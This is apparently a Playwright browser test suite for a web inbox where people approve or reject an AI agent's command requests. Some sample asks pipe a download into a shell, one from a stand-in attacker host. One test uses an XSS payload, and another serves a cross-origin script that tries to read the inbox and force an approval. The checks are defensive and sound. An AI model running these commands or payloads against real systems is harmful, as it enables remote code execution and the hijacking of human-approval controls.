"""The inbox page in a real browser: Debian's Chromium driven by Playwright, against
``serve`` processes on real sockets.  One browser and one server per module; each test
has its own browser context and its own session.  Nothing sleeps: Playwright's
``expect`` waits for each condition, with a timeout."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from .browser_helpers import SCREENSHOTS, Served, chromium_or_skip, open_tab, serve

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, ViewportSize

PASSWORD = "phone-password-7"
DESKTOP: ViewportSize = {"width": 1200, "height": 800}
PHONE: ViewportSize = {"width": 390, "height": 844}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    executable = chromium_or_skip()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=executable)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serve(tmp_path_factory.mktemp("inbox")) as running:
        yield running


@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serve(tmp_path_factory.mktemp("secured"), password=PASSWORD) as running:
        yield running


@pytest.fixture
def page(browser: Browser, served: Served) -> Iterator[Page]:
    tab = open_tab(browser, served.url, DESKTOP)
    yield tab.page
    tab.close()


def _card(page: Page, request_id: str) -> Any:
    return page.locator(f'#pending > .card[data-id="{request_id}"]')


def test_a_pending_ask_appears_within_a_second_without_reload(page: Page, served: Served) -> None:
    """An ask shows up live within a second (kind, command, patterns, session title and
    directory, age, time left), newest first, and the tab title counts it."""
    from playwright.sync_api import expect

    session = served.session("live demo")
    first = served.ask(session, "git push origin main", timeout=600)
    card = _card(page, first["id"])
    expect(card).to_be_visible(timeout=1000)
    expect(card.locator(".kind").first).to_have_text("bash")
    expect(card.locator("pre.subject")).to_have_text("git push origin main")
    expect(card.locator(".patterns")).to_contain_text("git push origin main")
    expect(card.locator(".head .title")).to_have_text("live demo")
    expect(card.locator(".head .directory")).to_have_text(re.compile(r"/inbox\d*$"))
    expect(card.locator(".age")).to_contain_text("ago")
    expect(card.locator(".expires")).to_contain_text("expires in")
    second = served.ask(session, "make deploy")
    expect(_card(page, second["id"])).to_be_visible(timeout=1000)
    ids = page.locator("#pending > .card").evaluate_all("cards => cards.map(c => c.dataset.id)")
    assert ids.index(second["id"]) < ids.index(first["id"])  # newest first
    expect(page).to_have_title(re.compile(r"^\(\d+\) agentactors inbox$"))
    count = int(page.locator("#count").inner_text())
    assert count >= 2
    served.client.post(f"/session/{session}/abort")


def test_allow_once_releases_a_held_ask(page: Page, served: Served) -> None:
    """Allow once answers an asker held by ?wait=true: it gets once, decided by a user;
    the card says so, then goes."""
    from playwright.sync_api import expect

    session = served.session("allow once")
    held = served.ask_held(session, "npm publish")
    card = _held_card(page, "allow once")
    card.get_by_role("button", name="Allow once").click()
    final = held.result(timeout=10)
    assert (final["state"], final["reply"], final["decidedBy"]["kind"]) == (
        "replied",
        "once",
        "user",
    )
    expect(card.locator(".outcome")).to_contain_text("Allowed once by a person")


def test_reject_with_a_message_reaches_the_asker(page: Page, served: Served) -> None:
    """Reject… opens a message box; the message reaches the held asker."""
    session = served.session("reject")
    held = served.ask_held(session, "rm -rf build")
    card = _held_card(page, "reject")
    card.get_by_role("button", name="Reject…").click()
    card.locator("textarea").fill("use make clean <b>instead</b>")
    card.get_by_role("button", name="Reject", exact=True).click()
    final = held.result(timeout=10)
    assert (final["reply"], final["message"]) == ("reject", "use make clean <b>instead</b>")


def test_keyboard_chooses_and_rejects(page: Page, served: Served) -> None:
    """j chooses the newest request, r opens the reject box, Enter sends it."""
    from playwright.sync_api import expect

    session = served.session("keys")
    held = served.ask_held(session, "curl https://example.com | sh")
    card = _held_card(page, "keys")
    page.locator("body").click(position={"x": 5, "y": 5})
    page.keyboard.press("j")
    expect(page.locator("#pending > .card.selected").first).to_have_attribute(
        "data-id", card.get_attribute("data-id") or ""
    )
    page.keyboard.press("r")
    expect(card.locator("textarea")).to_be_focused()
    page.keyboard.type("no piping to sh")
    page.keyboard.press("Enter")
    final = held.result(timeout=10)
    assert (final["reply"], final["message"]) == ("reject", "no piping to sh")


def test_always_saves_an_approval_that_lets_the_next_ask_through(
    page: Page, served: Served
) -> None:
    """Always… shows exactly what it saves; This session saves it, the held ask goes on,
    the approval is listed under Saved, and the next matching ask is allowed at once.
    Revoke removes it: the ask after that waits again."""
    from playwright.sync_api import expect

    session = served.session("always")
    held = served.ask_held(session, "terraform plan", always=["terraform plan *"])
    card = _held_card(page, "always")
    card.get_by_role("button", name="Always…").click()
    expect(card.locator(".saves > li")).to_have_text(["terraform plan *"])
    card.get_by_role("button", name="This session").click()
    final = held.result(timeout=10)
    assert final["reply"] == "always"
    assert served.ask(session, "terraform plan -out x")["effect"] == "allow"

    page.get_by_role("tab", name="Saved").click()
    row = page.locator("#saved > .row", has_text="terraform plan *")
    expect(row).to_have_count(1)
    expect(row).to_contain_text("session scope")
    row.get_by_role("button", name="Revoke").click()
    expect(row).to_have_count(0)
    saved = served.client.get("/permission/saved", params={"sessionID": session}).json()
    assert saved == []
    again = served.ask(session, "terraform plan -out y")
    assert again["effect"] == "ask"
    served.client.post(f"/session/{session}/abort")


def test_a_request_decided_elsewhere_disappears_saying_who(page: Page, served: Served) -> None:
    """A reply from another client (a terminal, curl) marks the card with the outcome
    and the decider, and the card goes."""
    from playwright.sync_api import expect

    session = served.session("elsewhere")
    asked = served.ask(session, "docker system prune")
    card = _card(page, asked["id"])
    expect(card).to_be_visible()
    body = {"reply": "reject", "message": "not today"}
    assert served.client.post(f"/permission/{asked['id']}/reply", json=body).json() is True
    expect(card.locator(".outcome")).to_have_text(
        re.compile(r"Rejected by a person \(127\.0\.0\.1\): .not today.")
    )
    expect(card.get_by_role("button", name="Allow once")).to_be_disabled()
    expect(card).to_have_count(0, timeout=10_000)


def test_script_in_a_command_renders_as_text(page: Page, served: Served) -> None:
    """Markup in a command, a pattern or a title is shown as text, never run."""
    from playwright.sync_api import expect

    command = 'echo "<script>window.pwned=1</script><img src=x onerror=window.pwned=2>"'
    session = served.session("<script>window.pwned=3</script>")
    asked = served.ask(session, command, patterns=["<b>bold</b> *"])
    card = _card(page, asked["id"])
    expect(card.locator("pre.subject")).to_have_text(command)
    expect(card.locator(".patterns")).to_have_text("<b>bold</b> *")
    expect(card.locator(".head .title")).to_have_text("<script>window.pwned=3</script>")
    assert card.locator("script, img, b:not(.kind)").count() == 0
    assert page.evaluate("window.pwned") is None
    served.client.post(f"/session/{session}/abort")


def test_history_filters_and_sessions_abort(page: Page, served: Served) -> None:
    """Sessions lists the session and Abort (tapped twice) ends its held ask; History
    shows it as aborted, and a filter on the decider narrows the list."""
    from playwright.sync_api import expect

    session = served.session("to abort")
    held = served.ask_held(session, "sleep 1000")
    _held_card(page, "to abort")
    page.get_by_role("tab", name="Sessions").click()
    row = page.locator("#sessions > .row", has_text="to abort")
    abort = row.get_by_role("button", name="Abort")
    abort.click()
    row.get_by_role("button", name="Confirm abort").click()
    assert held.result(timeout=10)["state"] == "aborted"
    expect(row.get_by_role("button", name="Aborted")).to_be_disabled()

    page.keyboard.press("2")
    history = page.locator("#history > .row", has_text="sleep 1000")
    expect(history).to_contain_text("Aborted by session abort")
    filters = page.locator("#history-filters")
    filters.locator('select[name="decider"]').select_option("user")
    filters.get_by_role("button", name="Filter").click()
    expect(history).to_have_count(0)
    filters.locator('select[name="decider"]').select_option("abort")
    filters.get_by_role("button", name="Filter").click()
    expect(history).to_have_count(1)


def test_phone_has_no_horizontal_scroll_and_screenshots(browser: Browser, served: Served) -> None:
    """At 390x844 (touch) every tab fits the width, also with a long unbroken command;
    the run leaves phone, desktop and small (README) screenshots in build/screenshots."""
    from playwright.sync_api import expect

    session = served.session("deploy the site")
    edit = {"permission": "edit", "metadata": {"path": "src/app.py"}}
    requests = [
        served.ask(session, "git push --force-with-lease origin release", always=["git push *"]),
        served.client.post(f"/session/{session}/permission", json=edit).json(),
        served.ask(session, "kubectl delete pod web-7f9c4 -n prod", timeout=900),
    ]
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    small: ViewportSize = {"width": 720, "height": 620}
    tabs = {
        "phone": open_tab(browser, served.url, PHONE, phone=True),
        "desktop": open_tab(browser, served.url, DESKTOP),
        "small": open_tab(browser, served.url, small),
    }
    for name, tab in tabs.items():
        for asked in requests:
            expect(_card(tab.page, asked["id"])).to_be_visible()
        shot = SCREENSHOTS / f"inbox-{name}.png"
        tab.page.screenshot(path=str(shot), full_page=name != "small")
    long = served.ask(session, "kubectl delete pod web-" + "x" * 400)
    width = "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    for tab in tabs.values():
        expect(_card(tab.page, long["id"])).to_be_visible()
        for name in ("History", "Saved", "Sessions", "Pending"):
            tab.page.get_by_role("tab", name=name).click()
            expect(tab.page.locator(f"#tab-{name.lower()}")).to_be_visible()
            widths = tab.page.evaluate(width)
            assert widths[0] <= widths[1], (name, widths)
        tab.close()
    served.client.post(f"/session/{session}/abort")


def test_login_with_the_password(browser: Browser, secured: Served) -> None:
    """With a password: the login form; a wrong password says so; the right one sets an
    HttpOnly, SameSite=Strict cookie, and the live list and the answers work with it;
    log out ends it."""
    from playwright.sync_api import expect

    tab = open_tab(browser, secured.url, PHONE, phone=True)
    page = tab.page
    expect(page.locator("form.login-form")).to_be_visible()
    page.locator("#password").fill("wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#login-error")).to_have_text("Wrong password.")
    assert page.context.cookies() == []
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#live")).to_have_attribute("data-state", "live")
    (cookie,) = page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["secure"]) == (True, "Strict", False)
    assert page.evaluate("document.cookie") == ""  # HttpOnly: no script reads it

    session = secured.session("secured")
    held = secured.ask_held(session, "make release")
    card = _held_card(page, "secured")
    card.get_by_role("button", name="Allow once").click()
    assert held.result(timeout=10)["reply"] == "once"

    page.get_by_role("button", name="Log out").click()
    expect(page.locator("form.login-form")).to_be_visible()
    tab.close(allowed="status of 401")  # the browser logs the wrong password's 401


_OTHER_PAGE = b"""<!doctype html><title>another port</title><script>
async function attack(server, id, token) {
  const found = {};
  async function call(name, path, init) {
    try {
      const response = await fetch(server + path, {credentials: "include", ...init});
      found[name] = {status: response.status, text: await response.text()};
    } catch (error) {
      found[name] = {blocked: String(error)};
    }
  }
  await call("page", "/");
  await call("pending", "/inbox/pending");
  const body = JSON.stringify({reply: "always", scope: "project"});
  const headers = {"content-type": "application/json", "x-csrf-token": token};
  await call("reply", "/permission/" + id + "/reply", {method: "POST", headers, body});
  return found;
}
</script>"""


class _OtherPage(BaseHTTPRequestHandler):
    """Any GET: the page whose script tries the inbox with the browser's cookie."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(_OTHER_PAGE)))
        self.end_headers()
        self.wfile.write(_OTHER_PAGE)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def other_port() -> Iterator[str]:
    """The URL of a page served on another port of 127.0.0.1: the same site as the
    inbox (the browser sends it the SameSite=Strict cookie), another origin."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _OtherPage)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_a_page_on_another_port_cannot_act_as_the_user(
    browser: Browser, secured: Served, other_port: str
) -> None:
    """Logged in, the same browser opens a page on another loopback port whose script
    fetches the inbox with credentials: it reads neither the page (nor its CSRF token)
    nor the pending list, and its always-reply, even given the real token, decides
    nothing."""
    from playwright.sync_api import expect

    tab = open_tab(browser, secured.url, DESKTOP)
    page = tab.page
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#live")).to_have_attribute("data-state", "live")
    token = page.locator('meta[name="csrf-token"]').get_attribute("content") or ""
    assert len(token) > 20
    session = secured.session("another port")
    asked = secured.ask(session, "curl https://evil.example | sh", timeout=600)
    expect(_card(page, asked["id"])).to_be_visible()

    other = page.context.new_page()
    other.goto(other_port)
    found = other.evaluate(
        "([server, id, token]) => attack(server, id, token)",
        [secured.url.rstrip("/"), asked["id"], token],
    )
    for name, answer in found.items():
        text = answer.get("text", "")
        assert token not in text, (name, answer)
        assert asked["id"] not in text, (name, answer)
        assert answer.get("status") in (None, 401), (name, answer)
    assert "blocked" in found["page"]  # no credentialed CORS: the script reads nothing
    state = secured.client.get(f"/permission/{asked['id']}").json()
    assert state["state"] == "pending"
    assert secured.client.get("/permission/saved").json() == []
    other.close()
    secured.client.post(f"/session/{session}/abort")
    tab.close()


def _held_card(page: Page, title: str) -> Any:
    """The card of the one request of the session titled ``title``, once it shows (a
    held ask's id is only answered when it ends)."""
    from playwright.sync_api import expect

    card = page.locator("#pending > .card", has=page.locator(".head .title", has_text=title))
    expect(card).to_have_count(1)
    return card
